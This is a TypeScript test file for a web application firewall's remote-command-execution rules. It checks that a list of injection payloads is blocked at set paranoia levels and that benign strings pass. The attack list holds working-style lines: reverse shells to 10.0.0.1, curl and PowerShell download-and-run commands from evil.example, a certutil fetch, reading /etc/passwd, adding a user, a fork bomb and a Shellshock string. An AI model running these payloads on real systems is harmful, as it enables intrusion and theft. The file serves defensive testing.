import test from "ava";
import { appRequests, checkRules, placeCases, ruleFile, testBlocks, testPasses, type AppPlace } from "./support.js";

const file = ruleFile("132-rce.yaml", "/app");
const request = appRequests({ encoding: "utf8", xml: "element" });

// [place, payload, lowest paranoia level that blocks it]
const ATTACKS: readonly (readonly [AppPlace, string, number])[] = [
  ["query", "127.0.0.1;cat /etc/passwd", 1],
  ["form", "8.8.8.8|whoami", 1],
  ["json", "example.com && curl -s http://evil.example/x.sh | sh", 1],
  ["cookie", "en$(id)", 1],
  ["query", "x%0Auname -a", 1],
  ["query", "%3Bwhoami", 1],
  ["xml", "a; uname -a", 1],
  ["form", "|| sleep 5", 1],
  ["form", "w'h'o'a'm'i", 1],
  ["query", "a;c\\at /etc/hosts", 1],
  ["form", "time nohup ifconfig", 1],
  ["query", "/???/c?t /???/p??s??", 1],
  ["query", "{cat,/etc/passwd}", 1],
  ["form", "cat${IFS}/etc/passwd", 1],
  ["query", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 1],
  ["form", "x; nc -e /bin/sh 10.0.0.1 4444", 1],
  ["ua", "() { :;}; /bin/bash -c 'id'", 1],
  ["form", "x & c^md /c dir", 1],
  ["query", "1 | net user hacker P@ss1 /add", 1],
  ["form", "; certutil -urlcache -f http://evil.example/a.exe a.exe", 1],
  ["json", "for /f %i in ('whoami') do echo %i", 1],
  ["form", "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')", 1],
  ["query", "x|powershell -enc SQBFAFgA", 1],
  ["upload", ".htaccess", 1],
  ["x-filename", "wp-config.php", 1],
  ["ua", "curl -s http://evil.example/x | bash", 2],
  ["query", "c$@at /etc/passwd", 2],
  ["form", "\r\nRCPT TO:<victim@example.com>", 2],
  ["form", ":(){ :|:& };:", 2],
  ["query", "'i'fconfig", 1],
  ["query", "x|vi -c ':!id' /tmp/a", 3],
];

testBlocks(file, placeCases(ATTACKS, request));

// Benign values that must pass at PL1; those marked true must also pass at PL2.
const BENIGN: readonly (readonly [AppPlace, string, boolean])[] = [
  ["form", "Tom & Jerry", true],
  ["form", "O'Brien & Sons; est. 1999", true],
  ["query", "best running shoes for women", true],
  ["form", "Skills: Java; Python; SQL", false],
  ["form", "How do I use curl to download a file?", true],
  ["form", "It costs $5 (approx)", true],
  ["form", "See [the docs](https://example.com/docs?a=1&b=2)", true],
  ["form", "The meeting ends at 10pm; time to go", true],
  ["form", "R&D department; find out more", false],
  ["json", "john.doe@example.com", true],
  ["form", "C:\\Program Files\\App\\app.exe", true],
  ["form", "for (int i = 0; i < n; i++) { sum += i; }", true],
  ["form", "Date / Time", true],
  ["query", "~/documents/report.pdf", true],
  ["form", "color: red !important;", true],
  ["form", "Tax (VAT) (incl.)", true],
  ["form", "a[b] = c[d]", true],
  ["form", "if you want more, call us", true],
  ["form", "Go to store.\nAt the store, shop.", true],
  ["ua", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36", true],
  ["ua", "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) AppleWebKit/534.28.2", true],
  ["referer", "https://www.google.com/search?q=waf+rules&sa=U&ved=2ahUKE&usg=AO", true],
  ["cookie", "GA1.2.3456.7890", true],
  ["upload", "holiday-photo.jpg", true],
  ["x-filename", "abc.botox.jpg", true],
  ["form", "The zip on my coat is stuck", true],
];

testPasses(file, placeCases(BENIGN, request));

test("every rule is in the file's id range and carries the attack-rce and owasp-a03 tags", (t) => {
  t.true(file.rules.length > 10);
  checkRules(t, file, ["attack-rce", "owasp-a03"]);
});
